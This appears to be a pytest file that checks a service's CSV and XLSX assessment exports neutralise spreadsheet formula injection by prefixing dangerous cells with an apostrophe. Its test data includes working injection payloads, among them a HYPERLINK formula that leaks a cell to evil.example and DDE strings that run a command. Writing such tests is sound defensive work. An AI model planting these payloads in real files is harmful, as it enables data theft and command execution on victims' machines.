"""No exported cell is a formula: hostile names from a site file (the branch's name and
region as the nightly run stores them) through the assessment's CSV and XLSX, as a table;
each comes out as the same text behind an apostrophe (api/cells.py)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import update

from api.cells import FORMULA_STARTS, text_cell
from pipeline.store import models as m
from tests.support.api import running_api

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A3,"点击 Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full-width equals": "＝1+1",
}
QUERY = "policy=B&period=2026-S3"


@pytest.fixture(scope="module")
def api(module_db_url, tmp_path_factory):
    with running_api(module_db_url, tmp_path_factory.mktemp("evidence")) as api:
        yield api


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_name_or_region_is_text_in_the_csv_and_the_xlsx(api, text):
    with api.db.session() as s:
        s.execute(update(m.Branch).where(m.Branch.id == api.own).values(name=text, region=text))
    try:
        got = api.get("admin", f"/api/v1/assessments.csv?{QUERY}")
        assert got.status_code == 200
        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"), newline="")))
        cells = [c for row in rows for c in row]
        assert "'" + text in cells  # the name, kept whole
        assert not [c for c in cells if c[:1] in FORMULA_STARTS]
        book = api.get("admin", f"/api/v1/assessments.xlsx?{QUERY}")
        sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
        values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in values if c.data_type == "f"]
        texts = [c.value for c in values if isinstance(c.value, str)]
        # XML reads a carriage return as a line feed: the text otherwise whole
        assert "'" + text.replace("\r", "\n") in texts and not [
            t for t in texts if t[:1] in FORMULA_STARTS
        ]
    finally:
        with api.db.session() as s:
            s.execute(update(m.Branch).where(m.Branch.id == api.own).values(
                name="淮安清江浦支行", region="huaian"))  # fmt: skip


@pytest.mark.parametrize(
    "value, cell",
    [("淮安 branch", "淮安 branch"), (-2.5, -2.5), (0, 0), (None, None), ("a=b", "a=b"),
     (" =x", " =x"), ("", ""), ("-", "'-")],
)  # fmt: skip
def test_only_text_that_would_be_a_formula_is_quoted(value, cell):
    assert text_cell(value) == cell
